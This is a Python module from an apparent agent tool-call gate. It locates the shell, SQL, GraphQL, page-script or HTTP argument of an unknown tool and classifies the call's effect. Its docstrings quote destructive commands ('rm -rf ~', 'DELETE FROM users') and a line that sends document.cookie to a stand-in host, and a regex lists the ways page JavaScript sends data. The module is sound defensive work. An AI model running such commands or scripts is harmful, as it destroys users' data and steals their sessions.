"""Unknown tools whose argument is code that runs: judged by the code, not the tool's name.

An MCP server or a framework tool named ``execute_command``, ``run_terminal_cmd``,
``terminal``, ``mcp__shell__exec`` or ``mcp__db__query`` takes a shell command or an SQL
statement as an argument. Its name says little (``execute`` is neither safe nor harmful); the
argument says everything. Without this source, ``terminal {"input": "rm -rf ~/Documents"}``
was judged by the learned classifier (read-only, allowed) while ``execute_sql {"query":
"SELECT 1"}`` was denied for the word ``execute``.

:func:`executed_argument` finds such an argument:

- **a shell command** — a string under an argument named like a command (``command``,
  ``cmd``, ``command_line``, ``script`` …) of a tool whose name says it runs something
  (``run``, ``exec``, ``shell``, ``terminal``, ``process`` …), or under ``input``/``keys``/
  ``text`` of a tool named for a terminal (``shell``, ``terminal``, ``bash``, ``tmux`` …);
- **a GraphQL mutation** — a string under any argument name that is a GraphQL document
  whose operation is ``mutation`` (``deleteRepository``, ``mergePullRequest``): it changes
  the remote service (a ``query`` is not claimed read-only: the name decides);
- **SQL** — a string that begins like an SQL statement under an argument named ``sql`` (or
  ``*_sql``), or under ``query``/``statement`` of a tool whose name names a database
  (``sql``, ``db``, ``postgres``, ``sqlite`` …) or running a query (``query``, ``execute``);
  under any other argument name of such a tool only when the statement loses data
  (``query {"q": "DELETE FROM users"}``): a read there is not claimed read-only.

:func:`executed_effect` then judges the command with the shell parser (the same rules as a
``bash`` call: an unknown program leaves it to the model) and the SQL with :mod:`.sql`. The
user's ``shell_tools`` configuration names shell tools explicitly; this catches the rest.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any, Literal

from ctxgate.gate.effects.annotations import split_mcp_name
from ctxgate.gate.effects.model import Effect
from ctxgate.gate.effects.names import READ_VERBS, name_words, operation_verb

__all__ = ["ExecutedArgument", "executed_argument", "executed_effect", "executed_pointer"]

ExecutedArgument = tuple[Literal["shell", "sql", "code", "page", "http", "graphql"], str, str]
"""``(kind, argument name, text)``; for ``http``, text is ``"METHOD url"``."""

_COMMAND_KEYS = frozenset({"command", "cmd", "commands", "command_line", "commandline",
                           "cmdline", "shell_command", "bash_command", "script",
                           "shell_script", "shell"})
_ARGV_KEYS = frozenset({"args", "argv"})
"""Arguments that hold a whole argv list (``exec {"argv": ["rm", "-rf", "x"]}``)."""
_TERMINAL_KEYS = frozenset({"input", "keys", "text", "line", "stdin"})
_RUN_WORDS = frozenset({"run", "runs", "exec", "execute", "executes", "shell", "terminal",
                        "bash", "sh", "zsh", "fish", "powershell", "pwsh", "cmd", "command",
                        "commands", "console", "process", "spawn", "ssh", "tmux", "invoke",
                        "start", "interactive", "repl", "subprocess", "system"})
_TERMINAL_WORDS = frozenset({"shell", "terminal", "bash", "sh", "zsh", "fish", "powershell",
                             "pwsh", "console", "tmux", "ssh", "tty", "pty"})
_SQL_KEYS = frozenset({"query", "statement", "statements", "queries"})
_DB_WORDS = frozenset({"sql", "db", "database", "databases", "postgres", "postgresql", "pg",
                       "psql", "mysql", "mariadb", "sqlite", "sqlite3", "duckdb", "bigquery",
                       "snowflake", "clickhouse", "supabase", "redshift", "mssql", "oracle",
                       "neon", "turso", "cockroach", "tidb", "query", "execute", "exec",
                       "run", "table", "tables", "warehouse"})
PROGRAM_TOOLS: dict[str, str] = {
    **{p: p for p in ("git", "kubectl", "oc", "docker", "podman", "helm", "terraform", "tofu",
                      "pulumi", "aws", "gcloud", "az", "gsutil", "doctl", "flyctl", "heroku",
                      "vercel", "netlify", "firebase", "gh", "npm", "yarn", "pnpm", "cargo",
                      "systemctl", "rsync", "mongosh", "psql", "mysql", "sqlite3")},
    "redis": "redis-cli", "kubernetes": "kubectl", "k8s": "kubectl", "mongo": "mongosh",
    "github": "gh",
}
"""A tool named after a command-line program (its first word, or its MCP server's name)
whose argument is that program's arguments: judged as ``PROGRAM ARGS`` by the shell parser."""
_PROGRAM_KEYS = frozenset({"args", "argv", "arguments", "command", "cmd", "subcommand",
                           "command_line", "cli_args"})
_ARGUMENT_LIST_KEYS = frozenset({"args", "argv", "arguments", "cli_args", "subcommand"})
"""For a tool named after its MCP server's program only: a ``command`` there may be what runs
inside (a container's command), not the program's own arguments."""
_CODE_WORDS = frozenset({"python", "py", "repl", "jupyter", "notebook", "ipython", "eval",
                         "evaluate", "javascript", "js", "node", "nodejs", "deno", "bun",
                         "interpreter", "kernel"})
"""A tool named with one of these runs code."""
_CODE_WORDS_IF_RUN = frozenset({"code", "cell", "script", "sandbox", "snippet"})
"""These only with a word that runs (``run_code``, ``execute_cell``; not ``search_code``)."""
_CODE_KEYS = frozenset({"code", "source", "source_code", "script", "cell", "expression",
                        "snippet", "program", "python", "javascript", "js"})
_SHELL_LANGUAGES = frozenset({"bash", "sh", "shell", "zsh", "fish", "powershell", "pwsh",
                              "cmd", "console", "terminal"})
"""A ``language`` argument naming a shell: the code is a shell command (``run_code {"language":
"bash", "code": "rm -rf ~"}``), judged by the shell rules, not the code scan."""
_HTTP_METHODS = frozenset({"GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE"})
_HTTP_KEYS = frozenset({"method", "http_method", "verb", "request_method"})
_URL_KEYS = frozenset({"url", "uri", "path", "endpoint", "route", "href", "link"})
def executed_argument(tool: str, arguments: Any, *, server: str = "") -> ExecutedArgument | None:
    """The shell command, SQL, code or HTTP request an unknown tool's call runs, or ``None``
    (module docstring). ``tool`` may be ``mcp__server__name``; ``server``: the MCP server the
    call goes to when the caller knows it (the proxy), ``tool`` then being the bare name."""
    located = _locate(tool, arguments, server)
    return located[0] if located else None


def executed_pointer(tool: str, arguments: Any, *, server: str = "") -> str | None:
    """The JSON pointer of the argument :func:`executed_argument` finds (``/command``,
    ``/params/command``), for the gate's full views: code that runs is judged whole or the
    call is denied, never a shortened view of it."""
    located = _locate(tool, arguments, server)
    return located[1] if located else None


def _locate(tool: str, arguments: Any, server: str) -> tuple[ExecutedArgument, str] | None:
    """The executed argument and its JSON pointer: at the top level, else one level down
    (``{"params": {"command": …}}``, ``{"input": {"sql": …}}``)."""
    from ctxgate.gate.pointers import escape_segment

    if not isinstance(arguments, Mapping):
        return None
    if not server:
        server, tool = split_mcp_name(tool) or ("", tool)
    found = _top_level(tool, server, arguments)
    if found is not None:
        return found, "/" + escape_segment(found[1])
    for outer, value in arguments.items():
        if isinstance(value, Mapping):
            found = _top_level(tool, server, value)
            if found is not None:
                return found, "/" + escape_segment(str(outer)) + "/" + escape_segment(found[1])
    return None


def _argv(value: Any) -> str | None:
    """A command given as a string, or as an argv list of strings (joined with quoting)."""
    if isinstance(value, str):
        return value if value.strip() else None
    if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
        import shlex

        return shlex.join(value)
    return None


def _top_level(tool: str, server: str, arguments: Mapping[str, Any]) -> ExecutedArgument | None:
    """What ``arguments`` run, for the bare tool name ``tool`` of MCP server ``server`` (its
    words count as the tool's: ``mcp__shell__send``'s ``input`` is typed into a shell)."""
    from ctxgate.gate.effects.sql import looks_like_sql

    words = set(name_words(tool)) | set(name_words(server))
    strings = [(str(k), v) for k, v in arguments.items() if isinstance(v, str) and v.strip()]
    found = _http(arguments) or _program(tool, server, arguments)
    if found is not None:
        return found
    for key, value in strings:  # a GraphQL mutation, under any argument name
        if _MUTATION.match(value):
            return "graphql", key, value
    for key, value in strings:
        k = key.lower()
        if k == "sql" or k.endswith("_sql") or k.startswith("sql_"):
            if looks_like_sql(value):
                return "sql", key, value
        elif k in _SQL_KEYS and words & _DB_WORDS and looks_like_sql(value):
            return "sql", key, value
    if words & _PAGE_WORDS and words & (_RUN_WORDS | _CODE_WORDS):
        for key, value in strings:  # browser_run_script {"script": …}: JavaScript in a page
            if key.lower() in _CODE_KEYS:
                return "page", key, value
    for key, raw in arguments.items():
        k, command = str(key).lower(), _argv(raw)
        if command is None:
            continue
        if ((k in _COMMAND_KEYS or (k in _ARGV_KEYS and not isinstance(raw, str)))
                and words & _RUN_WORDS) or (k in _TERMINAL_KEYS and words & _TERMINAL_WORDS
                                            and isinstance(raw, str)):
            return "shell", str(key), command
    if words & _DB_WORDS:  # a query under any other name (`query {"q": "DELETE FROM t"}`)
        from ctxgate.gate.effects.sql import sql_effect

        for key, value in strings:
            if looks_like_sql(value):
                e = sql_effect(value)
                if e is not None and e.effect.destructive:
                    return "sql", key, value
    if _runs_code(tool, words):
        shell = _SHELL_LANGUAGES & {str(v).lower() for k, v in arguments.items()
                                    if str(k).lower() in ("language", "lang", "kernel", "shell")}
        page = not shell and bool(words & _PAGE_WORDS)
        for key, value in strings:
            if key.lower() in _CODE_KEYS:
                return ("shell" if shell else "page" if page else "code"), key, value
    return None


_PAGE_WORDS = frozenset({"browser", "page", "puppeteer", "playwright", "selenium", "chrome",
                         "devtools", "tab", "webdriver"})
"""A code-running tool named with one of these runs JavaScript in a web page."""
_PAGE_SENDS = re.compile(
    r"\bfetch\s*\(|XMLHttpRequest|sendBeacon|\bnew\s+(?:WebSocket|EventSource)\b|"
    r"\.src\s*=(?!=)|\blocation(?:\.href)?\s*=(?!=)|\blocation\.(?:assign|replace)\s*\(|"
    r"\bwindow\.open\s*\(|\.(?:submit|requestSubmit|click)\s*\(|\$\.(?:ajax|post|get)\s*\(|"
    r"\baxios\b")
"""What page JavaScript does that reaches a server or acts as the user: requests, beacons,
sockets, an image or script source, a navigation, a form submit, a click."""


def _page_effect(key: str, script: str) -> Effect | None:
    """JavaScript a browser tool runs in the page (``puppeteer_evaluate``): it runs with the
    user's session, so a request, a navigation, a submit or a click sends or acts as the user
    (``fetch('https://x.example/?c=' + document.cookie)``); other scripts are left to the
    model (``document.title``)."""
    from ctxgate.gate.effects.model import EffectClass, EffectSource

    m = _PAGE_SENDS.search(script)
    if m is None:
        return None
    return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.CODE_SCAN,
                  evidence=f"the script in argument {key!r} runs in the page with the user's "
                           f"session and `{m.group(0).strip()}` sends a request or acts as "
                           "the user")


_MUTATION = re.compile(r"\A\s*(?:#[^\n]*\n\s*)*mutation\b[^{]*\{\s*(?:\w+\s*:\s*)?(\w+)")
"""A GraphQL document whose operation is a mutation; group 1: its first field
(``deleteRepository``)."""


def _runs_code(tool: str, words: set[str]) -> bool:
    found = operation_verb(tool)
    if found is not None and found[0] in READ_VERBS:
        return False  # search_python_docs, get_notebook: reads about code
    return bool(words & _CODE_WORDS or (words & _CODE_WORDS_IF_RUN and words & _RUN_WORDS))


def _http(arguments: Mapping[str, Any]) -> ExecutedArgument | None:
    """An HTTP request the arguments spell out: a method and a URL or path."""
    for key, value in arguments.items():
        if str(key).lower() in _HTTP_KEYS and isinstance(value, str) and \
                value.strip().upper() in _HTTP_METHODS:
            url = next((v for k, v in arguments.items()
                        if str(k).lower() in _URL_KEYS and isinstance(v, str)), "")
            if url or any(str(k).lower() in ("body", "data", "json", "payload")
                          for k in arguments):
                return "http", str(key), f"{value.strip().upper()} {url}".strip()
    return None


def _program(tool: str, server: str, arguments: Mapping[str, Any]) -> ExecutedArgument | None:
    """``PROGRAM ARGS`` of a tool named after a command-line program (or whose MCP server is)."""
    first = next(iter(re.split(r"[^a-z0-9]+", tool.lower())), "")
    program = PROGRAM_TOOLS.get(first)
    by_server = program is None
    if by_server:
        program = PROGRAM_TOOLS.get(server.lower())
    if program is None:
        return None
    for key, value in arguments.items():
        k = str(key).lower()
        if k not in _PROGRAM_KEYS or (by_server and k not in _ARGUMENT_LIST_KEYS):
            continue  # mcp__docker__run_container's "command" runs inside the container
        text = _argv(value)
        if text is None:
            continue
        text = text.strip()
        head = text.split(maxsplit=1)[0] if text else ""
        if head not in (program, first):
            text = f"{program} {text}"
        elif head == first and first != program:
            text = program + text[len(first):]
        return "shell", str(key), text
    return None


def executed_effect(found: ExecutedArgument, *, cwd: str) -> Effect | None:
    """The effect of running ``found`` (``None``: the parser cannot tell; the model judges)."""
    kind, key, text = found
    if kind == "http":
        return _http_effect(key, text)
    if kind == "graphql":
        from ctxgate.gate.effects.model import EffectClass, EffectSource

        m = _MUTATION.match(text)
        field = m.group(1) if m else "?"
        verb = next(iter(name_words(field)), "")
        from ctxgate.gate.effects.names import DELETE_VERBS

        what = "deletes something for good on" if verb in DELETE_VERBS else "changes"
        return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
                      evidence=f"argument {key!r} is a GraphQL mutation ({field}): it {what} "
                               "a remote service")
    if kind == "page":
        return _page_effect(key, text)
    if kind == "code":
        from ctxgate.gate.effects.code import code_effect

        return code_effect(text, where=f"the code in argument {key!r}", cwd=cwd)
    if kind == "sql":
        from ctxgate.gate.effects.sql import sql_effect

        return sql_effect(text, where=f"the SQL in argument {key!r}")
    from ctxgate.gate.effects.shell import shell_effect

    return shell_effect(text, cwd=cwd)


def _http_effect(key: str, request: str) -> Effect:
    from ctxgate.gate.effects.model import EffectClass, EffectSource

    method, _, url = request.partition(" ")
    said = f"argument {key!r} = {method}" + (f" {url[:80]}" if url else "")
    if method in ("GET", "HEAD", "OPTIONS"):
        return Effect(effect=EffectClass.READ_ONLY, source=EffectSource.TOOL_NAME,
                      evidence=f"{said}: an HTTP read (its URL leaves the machine)",
                      needs_model=True)
    what = "deletes on" if method == "DELETE" else "changes"
    return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
                  evidence=f"{said}: an HTTP request that {what} a remote service")
